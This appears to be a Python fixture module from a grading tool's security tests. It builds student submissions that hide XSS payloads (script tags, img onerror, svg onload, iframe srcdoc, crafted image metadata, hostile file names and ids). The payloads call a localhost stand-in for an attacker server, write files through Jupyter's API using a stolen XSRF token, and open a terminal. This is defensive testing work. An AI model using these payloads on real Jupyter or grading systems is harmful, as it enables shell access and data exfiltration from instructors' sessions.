"""Hostile submissions aimed at the TA's browser, and how to tell whether a payload ran.

Every payload is script (or a request) that a student hides where a TA's page shows it: in a
written answer, in an answer cell's outputs (HTML, Markdown, SVG, JavaScript), in a grade id or
a file name that the grader quotes in its "Grading notes" cell, in the student id itself. When
it runs in the TA's browser it does what the issue saw done with the TA's Jupyter session, each
under its own name, so that a test can tell which one ran:

- asks the canary (an HTTP server on 127.0.0.1 standing for the student's own server) for
  ``/<name>``: data leaving for another origin;
- writes ``pwned-<name>`` into the server's root (the course root) through the contents API;
- opens a Jupyter terminal (``/api/terminals``): a shell as the grading user.

Payloads that must fit in a file name (no ``/``, at most 255 bytes) only write their file.
Some payloads need no script at all (an image or a style that fetches from the canary).
"""

from __future__ import annotations

import html
import http.server
import threading
from dataclasses import dataclass, field
from pathlib import Path

from builder import ASSIGNMENT, Submission, cell, release, set_answer

PWNED_PREFIX = "pwned-"
# The bomb's unit: nested block quotes and emphasis that make a markdown renderer work hard.
BOMB_UNIT = "> " * 40 + "*a **b " * 20 + "\n"


def _write_file_js(name: str) -> str:
    """JavaScript that writes pwned-<name> through the contents API, without a '/' or a "'"
    (so that it fits in a file name and in a single-quoted attribute)."""
    return ('s=atob("Lw==");fetch(s+"api"+s+"contents"+s+"' + PWNED_PREFIX + name + '",'
            '{method:"PUT",headers:{"X-XSRFToken":document.cookie.split("_xsrf=").pop().split(";").shift()},'
            'body:JSON.stringify({type:"file",format:"text",content:"x"})})')


def script_js(name: str, canary: str) -> str:
    """The whole payload: canary, file, terminal (no "'" inside)."""
    return (f'new Image().src="{canary}/{name}";' + _write_file_js(name) + ';'
            'fetch(s+"api"+s+"terminals",{method:"POST",headers:{"X-XSRFToken":'
            'document.cookie.split("_xsrf=").pop().split(";").shift()}})')


def img_onerror(name: str, canary: str) -> str:
    return f"<img src=x onerror='{script_js(name, canary)}'>"


def short_img_onerror(name: str) -> str:
    """A payload that fits in a file or folder name."""
    return f"<img src=x onerror='{_write_file_js(name)}'>"


@dataclass
class Payloads:
    """Where each payload sits and what it is called; filled by ``hostile_submission``."""

    canary: str
    names: dict[str, str] = field(default_factory=dict)  # name -> where it is

    def add(self, name: str, where: str) -> str:
        self.names[name] = where
        return name


def written_answer(p: Payloads) -> str:
    c = p.canary
    return "\n\n".join([
        "My answer: we split the data so that the test set measures *new* images, $e^{x_i}$.",
        img_onerror(p.add("written-img", "written answer: <img onerror>"), c),
        f"<script>{script_js(p.add('written-script', 'written answer: <script>'), c)}</script>",
        f"<svg onload='{script_js(p.add('written-svg', 'written answer: inline <svg onload>'), c)}'></svg>",
        f'<iframe srcdoc="{html.escape("<script>" + script_js(p.add("written-iframe", "written answer: <iframe srcdoc>"), c) + "</script>")}"></iframe>',
        f'<img src="{c}/{p.add("written-pixel", "written answer: remote image (no script)")}">',
        f'<div style="background-image: url({c}/{p.add("written-css", "written answer: CSS url() (no script)")})">styled</div>',
        "| table | kept |\n| --- | --- |\n| a | b |",
        "```python\nif a < b:\n    print('code stays code')\n```",
    ])


# A 1x1 red PNG: an image output, and what JupyterLab stores for a screenshot pasted into a
# written answer (``attachments``).
RED_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGO4oKAAAALUARHMX99WAAAAAElFTkSuQmCC"
# What an image's metadata makes it do where nbconvert writes its width unquoted: cover the window.
COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999"


def image_metadata(p: Payloads) -> dict:
    """Output metadata of an image, as ``display(..., metadata=...)`` makes it: nbconvert's
    templates write ``width`` and ``height`` into the <img> unquoted (escaped, but spaces and
    ``=`` kept): the width adds a style that covers the TA's window, the height an event handler
    (its script has no space, and its quotes come back from their entities)."""
    js = 'fetch("' + p.canary + "/" + p.add("image-metadata", "an image output's metadata (height: onload)") + \
        '",{mode:"no-cors"});' + _write_file_js("image-metadata")
    return {"image/png": {"width": f"100% style={COVER}", "height": f"1 onload={js}"}}


PASTED = {  # a written answer's pasted images: JupyterLab's screenshot and hostile ones
    "image.png": {"image/png": RED_PIXEL},
    "diagram.svg": {"image/svg+xml": "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="},
    "bad.png": {"image/png": 'x" onerror="alert(1)'},
    "page.html": {"text/html": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
}


def pasted_images() -> tuple[str, dict]:
    """Markdown that shows pasted images, and the cell's ``attachments``."""
    return " ".join(f"![{name}](attachment:{name})" for name in PASTED), \
        {name: dict(bundle) for name, bundle in PASTED.items()}


def output_cell(p: Payloads) -> str:
    """An answer cell whose outputs carry payloads (run by the grader, shown to the TA)."""
    c = p.canary
    html = img_onerror(p.add("output-html", "answer cell output: text/html"), c)
    md = img_onerror(p.add("output-markdown", "answer cell output: text/markdown"), c)
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload=\'' +
           script_js(p.add("output-svg", "answer cell output: image/svg+xml"), c) + '\'><rect width="10" height="10"/></svg>')
    js = script_js(p.add("output-js", "answer cell output: application/javascript"), c)
    return "\n".join([
        "from IPython.display import HTML, Markdown, SVG, Javascript, display",
        f"display(HTML({html!r}))",
        f"display(Markdown({md!r}))",
        f"display(SVG({svg!r}))",
        f"display(Javascript({js!r}))",
        f"display({{'image/png': {RED_PIXEL!r}, 'text/plain': 'a plot'}}, raw=True, metadata={image_metadata(p)!r})",
        "raise NotImplementedError()  # the check still fails: this cell only shows outputs",
    ])


def hostile_submission(canary: str, bomb_chars: int = 0) -> tuple[Submission, Payloads]:
    """A submission with a payload in every place a TA's page quotes it (the student id is the
    caller's: see ``hostile_student_id``). Nothing trains: it grades in seconds."""
    p = Payloads(canary)
    nbs = release()
    fm = nbs["fashion_mnist"]
    markdown, attachments = pasted_images()
    set_answer(fm, "f2_why_split", written_answer(p) + "\n\nMy screenshot: " + markdown + "\n")
    cell(fm, "f2_why_split").attachments = attachments
    set_answer(fm, "f1_show", output_cell(p))
    if bomb_chars:
        set_answer(fm, "f6_roles", (BOMB_UNIT * (bomb_chars // len(BOMB_UNIT) + 1))[:bomb_chars])
    # A cell marked as a course cell that does not exist: the grader quotes its grade id.
    gid = short_img_onerror(p.add("grade-id", "a grade id quoted in the Grading notes"))
    fm.cells.append(_marked_cell(gid))
    # mnist handed in under a hostile file name: the grader quotes it in the Grading notes.
    mnist = nbs.pop("mnist")
    name = short_img_onerror(p.add("file-name", "a notebook's file name quoted in the Grading notes"))
    sub = Submission(nbs)
    import nbformat

    sub.raw[f"{name}.ipynb"] = nbformat.writes(mnist)
    return sub, p


def hostile_student_id(p: Payloads) -> str:
    return short_img_onerror(p.add("student-id", "the student id (folder name)"))


def _marked_cell(gid: str):
    import nbformat

    cell = nbformat.v4.new_markdown_cell("a cell that claims to be a course cell")
    cell.metadata["nbgrader"] = {"grade": False, "solution": True, "locked": False, "grade_id": gid,
                                 "schema_version": 3}
    return cell


class Canary:
    """An HTTP server on 127.0.0.1 that records the paths it is asked for."""

    def __init__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def pwned_files(root: Path) -> list[str]:
    return sorted(p.name for p in Path(root).glob(PWNED_PREFIX + "*"))


def ran(names, canary_hits: list[str], files: list[str]) -> set[str]:
    """The payloads with a trace: a canary request or a file."""
    out = set()
    for name in names:
        if any(h.lstrip("/").split("?")[0] == name for h in canary_hits) or PWNED_PREFIX + name in files:
            out.add(name)
    return out


__all__ = ["ASSIGNMENT", "COVER", "Canary", "image_metadata", "pasted_images", "Payloads", "hostile_submission", "hostile_student_id", "pwned_files", "ran"]
